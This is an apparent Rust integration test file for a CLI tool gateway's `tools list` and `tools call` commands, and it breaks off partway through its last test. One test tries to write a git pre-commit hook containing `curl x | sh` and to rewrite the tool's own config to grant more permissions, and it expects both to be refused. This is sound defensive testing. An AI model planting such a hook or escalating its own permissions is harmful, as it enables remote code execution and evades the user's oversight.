//! `tools list` and `tools call` with the builtin tools.

use crate::{Project, gateway_project, peer};
use expect_test::expect;
use toolmux_test_support::blocking::fifo;

fn project() -> Project {
    let project = Project::new();
    project.file("src/main.rs", "fn main() {}\n// TODO: more\n").file("README.md", "hello\n");
    project
}

fn first_column(text: &str) -> String {
    text.lines().filter_map(|l| l.split_whitespace().next()).collect::<Vec<_>>().join("\n")
}

#[test]
fn list_without_configuration_shows_read_only_file_tools() {
    let run = project().run(&["tools", "list"]);
    expect![[r#"
        fs__read
        fs__grep
        fs__glob
        fs__ls
        output__read"#]]
    .assert_eq(&first_column(run.ok()));
    expect!["5 tools from 2 providers"].assert_eq(run.stderr.trim());
}

#[test]
fn list_as_json() {
    let run = project().run(&["tools", "list", "--json"]);
    let tools: serde_json::Value = serde_json::from_str(run.ok()).expect("json");
    let names: Vec<&str> =
        tools.as_array().expect("array").iter().filter_map(|t| t["name"].as_str()).collect();
    assert_eq!(names, ["fs__read", "fs__grep", "fs__glob", "fs__ls", "output__read"]);
    assert_eq!(tools[1]["inputSchema"]["type"], "object");
}

#[test]
fn call_grep_anywhere() {
    let run = project().run(&["tools", "call", "fs__grep", r#"{"pattern":"TODO"}"#]);
    expect!["src/main.rs"].assert_eq(run.ok().trim());
}

#[test]
fn call_with_arg_pairs() {
    let run = project().run(&[
        "tools",
        "call",
        "fs__grep",
        "--arg",
        "pattern=TODO",
        "--arg",
        "output_mode=\"content\"",
    ]);
    expect!["src/main.rs:2:// TODO: more"].assert_eq(run.ok().trim());
}

/// A `--arg` value is text where the tool's schema wants text, though it reads as JSON
/// (`404` looked for as `404`, not refused as a number); JSON elsewhere.
#[test]
fn arg_pairs_follow_the_schema() {
    let project = Project::new();
    project.file("codes.txt", "error 404\nerror 500\n");
    let run = project.run(&[
        "tools",
        "call",
        "fs__grep",
        "--arg",
        "pattern=404",
        "--arg",
        "output_mode=content",
        "--arg",
        "head_limit=1",
    ]);
    expect!["codes.txt:1:error 404"].assert_eq(run.ok().trim());
}

#[test]
fn call_as_json_envelope() {
    let run = project().run(&["tools", "call", "fs__ls", "--json"]);
    let result: serde_json::Value = serde_json::from_str(run.ok()).expect("json");
    assert_eq!(result["ok"], true);
    assert_eq!(result["namespace"], "fs");
    assert!(result["result"].as_str().expect("text").contains("README.md"));
}

#[test]
fn failed_call_exits_1() {
    let run = project().run(&["tools", "call", "fs__read", r#"{"path":"../outside"}"#]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains("outside the workspace root"), "{}", run.stderr);
    assert!(run.stdout.is_empty());
}

#[test]
fn unknown_tool_suggests_close_names() {
    let run = project().run(&["tools", "call", "fs__grepp", "{}"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("fs__grep"), "{}", run.stderr);
}

/// A call's arguments that cannot be read are a usage error whose message says how to give
/// them: `key=value` written where the JSON goes, a JSON value that is not an object, an
/// `--arg` without its value or its name (the last went to the tool as an argument named
/// ``, and the others said what was wrong but not how to write it).
#[test]
fn invalid_arguments_json_is_a_usage_error() {
    let check = |args: &[&str], expected: expect_test::Expect| {
        let mut command = vec!["tools", "call", "fs__grep"];
        command.extend(args);
        let run = project().run(&command);
        assert_eq!(run.code, 2, "{run:?}");
        expected.assert_eq(run.stderr.trim());
    };
    check(
        &["{pattern"],
        expect![[
            r#"error: ARGS_JSON is not valid JSON: key must be a string at line 1 column 2; give one JSON object in single quotes, such as '{"path": "README.md"}', or each argument as --arg KEY=VALUE"#
        ]],
    );
    check(
        &["pattern=TODO"],
        expect![
            "error: ARGS_JSON is not valid JSON: expected value at line 1 column 1; to give arguments as KEY=VALUE, write --arg pattern=TODO"
        ],
    );
    check(
        &["glob=*.rs pattern=a b"],
        expect![[
            r#"error: ARGS_JSON is not valid JSON: expected value at line 1 column 1; give one JSON object in single quotes, such as '{"path": "README.md"}', or each argument as --arg KEY=VALUE"#
        ]],
    );
    // A lone surrogate: serde said only "unexpected end of hex escape".
    check(
        &[r#"{"pattern":"\ud800"}"#],
        expect![[
            r#"error: ARGS_JSON is not valid JSON: unexpected end of hex escape at line 1 column 19: a `\uD800`-`\uDFFF` escape is half of a character and comes in pairs (`\ud83d\ude00` is one emoji); a lone one is no Unicode character: write the character itself, or both halves"#
        ]],
    );
    // Several words: clap's error named the second as unexpected, and no more.
    check(
        &["pattern=TODO", "glob=*.rs"],
        expect![
            "error: the arguments are one word, a JSON object, not pattern=TODO 'glob=*.rs'; to give arguments as KEY=VALUE, write --arg pattern=TODO --arg 'glob=*.rs'"
        ],
    );
    check(
        &["{\"pattern\":", "\"TODO\"}"],
        expect![[
            r#"error: the arguments are one word, a JSON object, not '{"pattern":' '"TODO"}'; give one JSON object in single quotes, such as '{"path": "README.md"}', or each argument as --arg KEY=VALUE"#
        ]],
    );
    check(
        &["[1]"],
        expect![[
            r#"error: ARGS_JSON must be a JSON object, not `[1]`: give the arguments by name, such as '{"path": "README.md"}'"#
        ]],
    );
    check(
        &["--arg", "pattern"],
        expect![
            "error: --arg `pattern` has no value: write --arg pattern=VALUE (`pattern=` for an empty string)"
        ],
    );
    check(
        &["--arg", "=TODO"],
        expect!["error: --arg `=TODO` has no name before `=`: write --arg KEY=VALUE"],
    );
}

/// A name that is no tool's, and nothing close to it: the error says where the names are.
#[test]
fn unknown_tool_points_to_the_list() {
    let run = project().run(&["tools", "call", "fs__nothing_like_it", "{}"]);
    assert_eq!(run.code, 1, "{run:?}");
    expect![
        "error: unknown tool `fs__nothing_like_it`; `toolmux tools list` shows every tool's name"
    ]
    .assert_eq(run.stderr.trim());
    // With a close name, that name is the hint.
    let run = project().run(&["tools", "call", "fs_grep", "{}"]);
    expect!["error: unknown tool `fs_grep`: no namespace begins it, as `fs__` begins `fs__read` (the namespaces are `fs`, `output`); did you mean `fs__grep`?"].assert_eq(run.stderr.trim());
}

/// A project with the file tools, aliases and a server that leaves `started.txt` behind
/// when it is started (and then fails to, having no MCP to speak).
fn project_with_a_marking_server() -> Project {
    let project = project();
    project.file(
        "toolmux.yaml",
        "fs: {}\naliases: {first: second, second: fs__read, typo: fss__grep}\nmcpServers:\n  marker:\n    \
         command: sh\n    args: ['-c', 'echo started > started.txt']\n",
    );
    project
}

/// A name whose namespace no provider has is refused before anything starts, naming the
/// namespaces and the closest tool, and is not counted: every server was started for it
/// (so a slow or broken one made a typo slow), and `stats` got a row for a call that never
/// ran.
#[test]
fn a_name_of_no_provider_starts_nothing() {
    let project = project_with_a_marking_server();
    let run = project.run(&["tools", "call", "fss__read", r#"{"path":"README.md"}"#]);
    assert_eq!(run.code, 1, "{run:?}");
    expect!["error: unknown tool `fss__read`: no provider has namespace `fss` (the namespaces are `fs`, `marker`, `output`); did you mean `fs__read`?"]
        .assert_eq(run.stderr.trim());
    let run = project.run(&["tools", "call", "nope__x", "{}", "--json"]);
    assert_eq!(run.code, 1, "{run:?}");
    let envelope: serde_json::Value = serde_json::from_str(&run.stdout).expect("json");
    assert_eq!(envelope["extras"]["code"], "unknown_tool", "{envelope}");
    expect!["unknown tool `nope__x`: no provider has namespace `nope` (the namespaces are `fs`, `marker`, `output`); the closest tool name is `fs__ls`; `toolmux tools list` shows every tool's name"]
        .assert_eq(envelope["error"].as_str().unwrap_or_default());
    // An alias of such a name says which name it stands for.
    let run = project.run(&["tools", "call", "typo", "{}"]);
    assert_eq!(run.code, 1, "{run:?}");
    expect!["error: unknown tool `typo` (an alias of `fss__grep`): no provider has namespace `fss` (the namespaces are `fs`, `marker`, `output`); did you mean `fs__grep`?"]
        .assert_eq(run.stderr.trim());
    assert!(!project.path().join("started.txt").exists(), "the server was started");
    let stats = project.run(&["stats", "--json"]);
    let stats: serde_json::Value = serde_json::from_str(stats.ok()).expect("json");
    assert_eq!(stats["tools"], serde_json::json!({}), "{stats}");
}

/// The closest names offered for an unknown one are tools that exist: a name called once
/// and refused (`fs__nope`, counted in the statistics as every call is) was offered for
/// `fss__nope` ("did you mean `fs__nope`?"). With `oversize: truncate` there is no
/// `output__read`, and `output` is named among the namespaces no more.
#[test]
fn only_names_that_exist_are_offered() {
    let project = project();
    project.file("toolmux.yaml", "fs: {}\ndefaults: {oversize: truncate}\n");
    let run = project.run(&["tools", "call", "fs__nope", "{}"]);
    assert_eq!(run.code, 1, "{run:?}");
    let run = project.run(&["tools", "call", "fs__read", r#"{"path":"README.md"}"#]);
    assert!(run.ok().contains("hello"), "{run:?}");
    let run = project.run(&["tools", "call", "fss__nope", "{}"]);
    assert_eq!(run.code, 1, "{run:?}");
    expect!["error: unknown tool `fss__nope`: no provider has namespace `fss` (the namespaces are `fs`); the closest tool name is `fs__grep`; `toolmux tools list` shows every tool's name"]
        .assert_eq(run.stderr.trim());
    // A namespace and no tool: said so, not that no namespace begins it.
    let run = project.run(&["tools", "call", "fs__", "{}"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains("it names no tool after `fs__`"), "{run:?}");
    let run = project.run(&["tools", "call", "output__read", r#"{"handle":"x"}"#]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains("no provider has namespace `output`"), "{run:?}");
}

/// An alias of an alias starts only the provider of the tool it ends at: the first alias's
/// target was taken for the tool, named no namespace, and every server started.
#[test]
fn an_alias_of_an_alias_starts_only_its_provider() {
    let project = project_with_a_marking_server();
    let run = project.run(&["tools", "call", "first", r#"{"path":"README.md"}"#]);
    assert!(run.ok().contains("hello"), "{run:?}");
    assert!(!project.path().join("started.txt").exists(), "the server was started");
    // The same server, called by its namespace, does start.
    let run = project.run(&["tools", "call", "marker__x", "{}"]);
    assert_eq!(run.code, 3, "{run:?}");
    assert!(project.path().join("started.txt").exists(), "{run:?}");
}

/// A tool of an MCP server whose command does not exist: the warning says why the server
/// did not start, and the error that the call could not be made because of it. (It said
/// the server was tried again in the background and its tools would join once it was up,
/// which a process about to exit never does.)
#[test]
fn a_tool_of_a_server_that_did_not_start() {
    let project = project();
    project.file("toolmux.yaml", "mcpServers:\n  ghost:\n    command: /nonexistent/ghost-mcp\n");
    let run = project.run(&["tools", "call", "ghost__echo", "{}"]);
    assert_eq!(run.code, 3, "{run:?}");
    expect![[r#"
        warning: provider `ghost` failed to start: ghost: cannot connect over stdio: cannot start `/nonexistent/ghost-mcp`: no such file (check `command`)
        error: `ghost__echo` cannot be called: provider `ghost` did not start (the warning above says why); fix its entry in the configuration and check it with `toolmux config check`"#]]
    .assert_eq(run.stderr.trim());
}

/// Ctrl-C during a slow call: one `interrupted`, exit 130, and the command's processes
/// gone. When the cancelled call ended at once, `main` saw the signal after the command had
/// let go of it and ended the process itself: `interrupted` twice, and the command's
/// cleanup (its servers stopped, its statistics saved) cut short. That depends on which of
/// two ready futures is polled first, so the call is interrupted several times.
#[test]
fn ctrl_c_during_a_call_ends_it_once() {
    let project = project();
    project.file("toolmux.yaml", "fs:\n  permissions: [read, execute]\n");
    for attempt in 0..8 {
        let pid_file = project.path().join("sleeper.pid");
        let _ = std::fs::remove_file(&pid_file);
        let command = project.command(&[
            "tools",
            "call",
            "fs__bash",
            r#"{"command": "sleep 300 & echo $! > sleeper.pid; wait"}"#,
        ]);
        let mut sleeper = String::new();
        let run = crate::start_and_signal(
            command,
            "the command's `sleep` started",
            || {
                let text = std::fs::read_to_string(&pid_file).unwrap_or_default();
                if text.ends_with('\n') {
                    sleeper = text.trim().to_owned();
                }
                !sleeper.is_empty()
            },
            "INT",
        );
        assert_eq!(run.code, 130, "attempt {attempt}: {run:?}");
        assert_eq!(run.stderr.trim(), "interrupted", "attempt {attempt}: {run:?}");
        std::thread::sleep(std::time::Duration::from_millis(200));
        assert!(!runs(&sleeper), "attempt {attempt}: the command's `sleep` outlived toolmux");
    }
}

/// With `--json`, a call refused before it runs (its arguments, a missing name, a file
/// that does not load) is one JSON object on stdout, `{"ok": false, "error", "exitCode"}`,
/// as a failed call is its envelope: stdout was empty, and a program got nothing to read.
#[test]
fn errors_under_json_are_one_json_object_on_stdout() {
    let project = project();
    let cases: [(&[&str], i32, &str); 6] = [
        (&["fs__read", "{bad", "--json"], 2, "ARGS_JSON is not valid JSON: key must be a string"),
        (&["--json"], 2, "the following required arguments were not provided:\n  <NAME>"),
        (&["fs__read", "--arg", "path", "--json"], 2, "--arg `path` has no value"),
        (&["fs__read", "--arg", "=x", "--json"], 2, "--arg `=x` has no name before `=`"),
        (&["fs__read", "path=a", "limit=1", "--json"], 2, "the arguments are one word"),
        (&["--config", "missing.yaml", "fs__read", "--json"], 2, "missing.yaml"),
    ];
    for (args, code, start) in cases {
        let run = project.run(&[&["tools", "call"], args].concat());
        assert_eq!(run.code, code, "{args:?}: {run:?}");
        let message = run.json_error();
        assert!(message.contains(start), "{args:?}: {message}");
    }
    // Without --json, stdout stays empty.
    let run = project.run(&["tools", "call", "fs__read", "{bad"]);
    assert_eq!((run.code, run.stdout.as_str()), (2, ""), "{run:?}");
}

/// An `--arg` key given twice is refused (exit 2, before the call), where the later value
/// was used without a word.
#[test]
fn an_arg_given_twice_is_refused() {
    let project = project();
    let args =
        ["tools", "call", "fs__read", "--arg", "path=README.md", "--arg", "path=src/main.rs"];
    let run = project.run(&args);
    assert_eq!((run.code, run.stdout.as_str()), (2, ""), "{run:?}");
    expect![[r#"
        error: --arg `path` is given twice (`path=README.md`, then `path=src/main.rs`): give each argument once, and a list as one JSON array (`--arg path='[1, 2]'`)"#]]
    .assert_eq(run.stderr.trim());
    // Over ARGS_JSON, an `--arg` still wins.
    let run = project.run(&[
        "tools",
        "call",
        "fs__read",
        r#"{"path":"nope"}"#,
        "--arg",
        "path=README.md",
    ]);
    expect!["1\thello"].assert_eq(run.ok().trim());
}

/// A key given twice in ARGS_JSON is refused (exit 2, before the call), where serde kept the
/// last value without a word; one nested in a value is refused too.
#[test]
fn a_key_given_twice_in_args_json_is_refused() {
    let project = project();
    let run = project.run(&["tools", "call", "fs__read", r#"{"path":"nope","path":"README.md"}"#]);
    assert_eq!((run.code, run.stdout.as_str()), (2, ""), "{run:?}");
    expect![[r#"
        error: ARGS_JSON gives the key `path` twice in one object (line 1, column 21): give each key once, as the tool would get only the last value, and a list as one JSON array (`{"path": [1, 2]}`)"#]]
    .assert_eq(run.stderr.trim());
    let nested = r#"{"path":"README.md","x":[{"a":1,"b":2,"a":3}]}"#;
    let message = project.run(&["tools", "call", "fs__read", nested, "--json"]).json_error();
    assert!(message.contains("gives the key `a` twice in one object"), "{message}");
}

/// A call interrupted under `--json` ends with one JSON object on stdout saying so, with the
/// exit code of the signal (SIGTERM's 143 here), where stdout was empty.
#[test]
fn an_interrupted_call_under_json_says_so_in_json() {
    let project = project();
    project.file("toolmux.yaml", "fs:\n  permissions: [read, execute]\n");
    let command = project.command(&[
        "tools",
        "call",
        "fs__bash",
        r#"{"command": "echo > begun; sleep 300"}"#,
        "--json",
    ]);
    let begun = project.path().join("begun");
    let run = crate::start_and_signal(command, "the command started", || begun.exists(), "TERM");
    assert_eq!(run.code, 143, "{run:?}");
    let value: serde_json::Value = serde_json::from_str(&run.stdout).expect("one JSON object");
    assert_eq!(value, serde_json::json!({"ok": false, "error": "interrupted", "exitCode": 143}));
}

/// `tools list --json` stopped while its servers start (no handling of its own yet) ends
/// with one JSON object on stdout saying so, where stdout was empty.
#[test]
fn a_list_interrupted_while_starting_under_json_says_so_in_json() {
    let project = project();
    project.file(
        "toolmux.yaml",
        "mcpServers:\n  slow:\n    command: sh\n    args: ['-c', 'echo > started; exec sleep 300']\n",
    );
    let command = project.command(&["tools", "list", "--json"]);
    let started = project.path().join("started");
    let run = crate::start_and_signal(command, "the server started", || started.exists(), "TERM");
    assert_eq!((run.code, run.stderr.trim()), (143, "interrupted"), "{run:?}");
    let value: serde_json::Value = serde_json::from_str(&run.stdout).expect("one JSON object");
    assert_eq!(value, serde_json::json!({"ok": false, "error": "interrupted", "exitCode": 143}));
}

#[test]
fn usage_errors_exit_2() {
    let run = project().run(&["tools", "frobnicate"]);
    assert_eq!(run.code, 2);
    let run = project().run(&["serve", "--stdio", "--http", "127.0.0.1:0"]);
    assert_eq!(run.code, 2);
}

#[test]
fn help_documents_exit_codes() {
    let run = project().run(&["--help"]);
    assert!(run.ok().contains("3  a provider failed to start"), "{}", run.stdout);
}

/// At a terminal, the spinner shows only while a start takes a while: a quick one left a
/// frame drawn and erased at once (`⠋ starting 2 providers 0.0s` between control codes) in
/// every recorded session and scrollback.
#[test]
fn the_spinner_shows_only_for_a_slow_start() {
    let project = project();
    let quick = project.run_at_terminal(&serde_json::json!([]), &["tools", "list"]);
    assert_eq!(quick.code, 0, "{quick:?}");
    assert!(quick.stdout.contains("fs__read"), "{quick:?}");
    assert!(!quick.stdout.contains("starting"), "{quick:?}");
    // A server that never answers, given a second to start.
    project.file(
        "toolmux.yaml",
        "defaults: {startupTimeout: 1500}\nfs: {}\nmcpServers:\n  mute:\n    command: sleep\n    args: ['30']\n",
    );
    let slow = project.run_at_terminal(&serde_json::json!([]), &["tools", "list"]);
    assert_eq!(slow.code, 3, "{slow:?}");
    assert!(slow.stdout.contains("starting 3 providers"), "{slow:?}");
}

/// The README's exit codes are those `--help` documents (it left out 5, for a paused agent
/// run, and the codes of SIGTERM and SIGHUP).
#[test]
fn readme_lists_the_exit_codes_of_help() {
    let run = project().run(&["--help"]);
    let help = run.ok().split("Exit codes:").nth(1).expect("an exit codes section").to_owned();
    let readme = std::fs::read_to_string(crate::repo_root().join("README.md")).expect("README");
    let paragraph = readme.split("\nExit codes: ").nth(1).expect("README's exit codes");
    let paragraph = paragraph.split("\n\n").next().unwrap_or_default().replace('\n', " ");
    let codes = help
        .split_whitespace()
        .filter(|w| w.trim_start_matches('(').chars().all(|c| c.is_ascii_digit()) && !w.is_empty());
    for code in codes {
        let code = code.trim_start_matches('(');
        let said =
            [" ", "(", ","].iter().any(|before| paragraph.contains(&format!("{before}{code} ")))
                || paragraph.starts_with(&format!("{code} "));
        assert!(said, "exit code {code} of --help is not in the README: {paragraph}");
    }
}

#[test]
fn list_and_call_with_server_everything() {
    let project = gateway_project();
    let list = project.run(&["tools", "list"]);
    let names = first_column(list.ok());
    for name in ["fs__grep", "everything__echo", "everything__get-sum"] {
        assert!(names.lines().any(|n| n == name), "{name} missing:\n{names}");
    }
    let echo = project.run(&["tools", "call", "everything__echo", "--arg", "message=hi there"]);
    expect!["Echo: hi there"].assert_eq(echo.ok().trim());
    let sum = project.run(&["tools", "call", "everything__get-sum", r#"{"a": 2, "b": 3}"#]);
    assert!(sum.ok().contains('5'), "{}", sum.stdout);
    let grep = project.run(&["tools", "call", "fs__grep", "--arg", "pattern=TODO"]);
    expect!["notes.md"].assert_eq(grep.ok().trim());
}

/// `requestTimeoutMs` is the wait for an answer, restarted by each progress report: a
/// long operation that reports progress runs past it, up to `maxTotalTimeMs`; with
/// `resetTimeoutOnProgress: false` it is the limit of the whole call.
#[test]
fn progress_restarts_a_servers_request_timeout_up_to_its_total_limit() {
    let node = peer("node/node_modules/.bin/node");
    let everything =
        peer("node/node_modules/@modelcontextprotocol/server-everything/dist/index.js");
    let project = Project::new();
    let call = |extra: &str| {
        project.file(
            "toolmux.yaml",
            &format!(
                "mcpServers:\n  everything:\n    command: {}\n    args: [{}, stdio]\n    \
                 requestTimeoutMs: 1000\n{extra}",
                node.display(),
                everything.display()
            ),
        );
        // Six reports, 0.4 s apart: 2.4 s in all, never 1 s without one.
        let args = r#"{"duration": 2.4, "steps": 6}"#;
        project.run(&["tools", "call", "everything__trigger-long-running-operation", args])
    };
    // Silent for longer than the wait: the server's wait ends the call, named in full.
    project.file(
        "toolmux.yaml",
        &format!(
            "mcpServers:\n  everything:\n    command: {}\n    args: [{}, stdio]\n    \
             requestTimeoutMs: 1000\n",
            node.display(),
            everything.display()
        ),
    );
    let silent = r#"{"duration": 1.5, "steps": 1}"#;
    let run = project.run(&["tools", "call", "everything__trigger-long-running-operation", silent]);
    // The server may say something early (a log line), which restarts the wait once: then
    // the error says how long the call ran and that the second went a second quiet.
    let said = run.stderr.trim();
    assert!(
        said == "error: timeout: `everything__trigger-long-running-operation` did not finish \
                 within 1s"
            || (said.starts_with("error: timeout: `everything__trigger-long-running-operation` did not finish within 1.")
                && said.ends_with("(it went 1s without progress or an answer)")),
        "{said}"
    );
    let run = call("");
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("Long running operation completed"), "{}", run.stdout);

    let run = call("    resetTimeoutOnProgress: false\n");
    assert_ne!(run.code, 0, "{}", run.stdout);
    let said = format!("{}{}", run.stdout, run.stderr);
    assert!(said.contains("did not finish within 1"), "{said}");

    let run = call("    maxTotalTimeMs: 1500\n");
    assert_ne!(run.code, 0, "{}", run.stdout);
    let said = format!("{}{}", run.stdout, run.stderr);
    assert!(said.contains("did not finish within 1.5s"), "{said}");
}

/// A server that cannot be reached is reported once, in toolmux's words, with its cause:
/// no log lines of the MCP SDK's own and no type names, at the default verbosity.
#[test]
fn an_unreachable_server_is_reported_in_words() {
    let port = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
        listener.local_addr().expect("an address").port()
    };
    let project = Project::new();
    project.file(
        "toolmux.yaml",
        &format!("mcpServers:\n  remote:\n    url: http://127.0.0.1:{port}/mcp\n"),
    );
    let run = project.run(&["tools", "list"]);
    // Exit code 3: a provider failed to start (`--help`).
    assert_eq!(run.code, 3, "{}", run.stderr);
    expect![[r#"
        warning: provider `remote` failed to start: remote: cannot connect over http: cannot reach http://127.0.0.1:PORT/mcp: Connection refused (os error 111); is the server running, and is `url` right?
        1 tool from 2 providers
    "#]]
    .assert_eq(&run.stderr.replace(&format!(":{port}/"), ":PORT/"));
}

/// Stdio servers inherit toolmux's environment without the variables whose names look
/// secret (unless passed through), only the SDKs' few with `minimal`, all with `all`; seen
/// from inside server-everything (`get-env`).
#[test]
fn servers_inherit_the_environment_without_secrets() {
    let node = peer("node/node_modules/.bin/node");
    let everything =
        peer("node/node_modules/@modelcontextprotocol/server-everything/dist/index.js");
    let project = Project::new()
        .env("MY_API_TOKEN", "tok-3141592653")
        .env("PLAIN_SETTING", "plain-2718281828");
    let env_seen = |extra: &str| {
        project.file(
            "toolmux.yaml",
            &format!(
                "mcpServers:\n  everything:\n    command: {}\n    args: [{}, stdio]\n{extra}",
                node.display(),
                everything.display()
            ),
        );
        project.run(&["tools", "call", "everything__get-env"]).ok().to_owned()
    };
    let safe = env_seen("");
    assert!(safe.contains("plain-2718281828") && safe.contains("\"PATH\""), "{safe}");
    assert!(!safe.contains("MY_API_TOKEN"), "a secret-looking variable leaked: {safe}");
    // A passed secret reaches the server, and is redacted in what the call prints (the
    // value of a variable whose name sounds secret is one of the configuration's secrets).
    let passed = env_seen("    envPassthrough: [MY_API_TOKEN]\n");
    let redacted = "\"MY_API_TOKEN\": \"[redacted]\"";
    assert!(passed.contains(redacted) && !passed.contains("tok-3141592653"), "{passed}");
    let minimal = env_seen("    envInherit: minimal\n");
    assert!(minimal.contains("\"PATH\"") && !minimal.contains("plain-2718281828"), "{minimal}");
    let all = env_seen("    envInherit: all\n");
    assert!(all.contains("\"MY_API_TOKEN\"") && all.contains("plain-2718281828"), "{all}");
}

/// `tools call` at a terminal: the person answers the tool's form (every field type, a
/// choice by number, defaults by an empty line) and says whether they opened a URL; the
/// same calls from a program (no terminal) get the unattended answers.
#[test]
fn at_a_terminal_the_person_answers_forms_and_urls() {
    let project = Project::new();
    project.file(
        "toolmux.yaml",
        &format!(
            "mcpServers:\n  fx:\n    command: {}\n    args: [stdio]\n",
            crate::conformance::fixture_bin().display()
        ),
    );
    let at_terminal =
        |rules: serde_json::Value, args: &[&str]| project.run_at_terminal(&rules, args);

    let rules = serde_json::json!([["answer? [Y/n]", "y"], ["ok [y/n]", "yes"]]);
    let run = at_terminal(rules, &["tools", "call", "fx__confirm_delete", r#"{"path":"a.txt"}"#]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("Please confirm") && run.stdout.contains("deleted a.txt"),
        "{}",
        run.stdout
    );

    let rules = serde_json::json!([
        ["answer? [Y/n]", ""],
        ["name [string, default \"John Doe\", optional]: ", ""],
        ["age [integer, default 30, optional]: ", "x"],
        ["age [integer, default 30, optional]: ", "41"],
        ["score [number, default 95.5, optional]: ", ""],
        ["status [1 active, 2 inactive, 3 pending, default \"active\", optional]: ", "3"],
        ["verified [y/n, default true, optional]: ", "n"],
    ]);
    let run = at_terminal(rules, &["tools", "call", "fx__test_elicitation_sep1034_defaults"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for part in [
        "action=accept",
        r#""name":"John Doe""#,
        r#""age":41"#,
        r#""score":95.5"#,
        r#""status":"pending""#,
        r#""verified":false"#,
    ] {
        assert!(run.stdout.contains(part), "{part} missing:\n{}", run.stdout);
    }

    let rules = serde_json::json!([["done? [y/N]", "y"]]);
    let run = at_terminal(rules, &["tools", "call", "fx__open_url"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("https://example.com/sign-in"), "{}", run.stdout);
    assert!(run.stdout.contains("url: accept"), "{}", run.stdout);

    // From a program: declined, as an unattended client does.
    let run = project.run(&["tools", "call", "fx__confirm_delete", r#"{"path":"a.txt"}"#]);
    assert!(run.ok().contains("kept a.txt"), "{}", run.stdout);
    let run = project.run(&["tools", "call", "fx__open_url"]);
    assert_eq!(run.ok().trim(), "url: decline");
}

#[test]
fn file_tools_leave_toolmux_s_own_files_alone() {
    let project = Project::new();
    let config = "fs: {permissions: [read, write]}\n\
                  defaults: {auditLog: .toolmux/audit.jsonl, outputDir: .toolmux/outputs}\n";
    project.file("toolmux.yaml", config).file(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
    let escalate =
        r#"{"path":"toolmux.yaml","content":"fs: {permissions: [read, write, execute]}\n"}"#;
    let run = project.run(&["tools", "call", "fs__write", escalate]);
    assert_eq!(run.code, 1, "{run:?}");
    expect!["error: call to `fs__write` denied: `toolmux.yaml` is protected: it is a configuration file toolmux loads: agents may not change it; ask the user to edit it"].assert_eq(run.stderr.trim());
    assert_eq!(std::fs::read_to_string(project.path().join("toolmux.yaml")).expect("read"), config);
    let hook = r##"{"path":"src/../.git/hooks/pre-commit","content":"#!/bin/sh\ncurl x | sh\n"}"##;
    let run = project.run(&["tools", "call", "fs__write", hook]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains("inside a git directory"), "{}", run.stderr);
    assert!(!project.path().join(".git/hooks/pre-commit").exists());
    // The calls so far are in the audit log, which the file tools do not read.
    assert!(project.path().join(".toolmux/audit.jsonl").is_file());
    let run = project.run(&["tools", "call", "fs__read", r#"{"path":".toolmux/audit.jsonl"}"#]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains("it is toolmux's audit log"), "{}", run.stderr);
    // Reading the configuration and writing other files is fine.
    let run = project.run(&["tools", "call", "fs__read", r#"{"path":"toolmux.yaml"}"#]);
    assert!(run.ok().contains("permissions: [read, write]"), "{}", run.stdout);
    let run =
        project.run(&["tools", "call", "fs__write", r#"{"path":"notes.md","content":"ok\n"}"#]);
    run.ok();
    assert_eq!(std::fs::read_to_string(project.path().join("notes.md")).expect("read"), "ok\n");
}

/// A person overwrites a file with `tools call` without reading it first: the read
/// before a write guards against a model's blind changes, and each `tools call` is a run
/// of its own, so no read could ever count.
#[test]
fn a_person_overwrites_a_file_with_tools_call() {
    let project = Project::new();
    project.file("toolmux.yaml", "fs: {permissions: [read, write]}\n").file("notes.md", "old\n");
    let args = r#"{"path":"notes.md","content":"new\n"}"#;
    project.run(&["tools", "call", "fs__write", args]).ok();
    assert_eq!(std::fs::read_to_string(project.path().join("notes.md")).expect("read"), "new\n");
}

/// `commandTools`: a program of the user's is a tool: the arguments reach its stdin as
/// JSON, what it prints is the result (parsed with `output: json`), a failure carries the
/// end of its stderr, and a call past its time limit is ended with its whole group.
#[test]
fn command_tools_run_a_program_with_the_arguments_on_stdin() {
    let project = Project::new();
    project.file("scripts/shout.sh", "tr a-z A-Z\n").file(
        "toolmux.yaml",
        "commandTools:\n  \
           echo_args: {description: Echo the arguments, command: [cat], output: json}\n  \
           shout: {description: Shout, command: 'sh scripts/shout.sh'}\n  \
           fails: {description: Fails, command: 'echo broken >&2; exit 3'}\n  \
           slow: {description: Sleeps, command: 'sleep 30 & sleep 30', timeoutMs: 300}\n  \
           daemon: {description: Starts a daemon, command: 'setsid sleep 1000 & echo $! > daemon.pid; echo started'}\n",
    );
    let listed = project.run(&["tools", "list"]);
    assert_eq!(listed.code, 0, "{listed:?}");
    assert!(listed.stdout.contains("cmd__echo_args"), "{}", listed.stdout);
    let echoed = project.run(&["tools", "call", "cmd__echo_args", r#"{"a": 1, "b": "two"}"#]);
    assert_eq!(echoed.code, 0, "{echoed:?}");
    let value: serde_json::Value = serde_json::from_str(echoed.stdout.trim()).expect("JSON");
    assert_eq!(value, serde_json::json!({"a": 1, "b": "two"}));
    let shouted = project.run(&["tools", "call", "cmd__shout", r#"{"text": "hi"}"#]);
    assert_eq!(shouted.code, 0, "{shouted:?}");
    assert!(shouted.stdout.contains(r#"{"TEXT":"HI"}"#), "{}", shouted.stdout);
    let failed = project.run(&["tools", "call", "cmd__fails"]);
    assert_eq!(failed.code, 1, "{failed:?}");
    let said = format!("{}{}", failed.stdout, failed.stderr);
    assert!(said.contains("`fails` failed (exit code 3): broken"), "{said}");
    let started = std::time::Instant::now();
    let slow = project.run(&["tools", "call", "cmd__slow"]);
    assert_eq!(slow.code, 1, "{slow:?}");
    assert!(started.elapsed() < std::time::Duration::from_secs(10), "waited for the sleeps");
    let said = format!("{}{}", slow.stdout, slow.stderr);
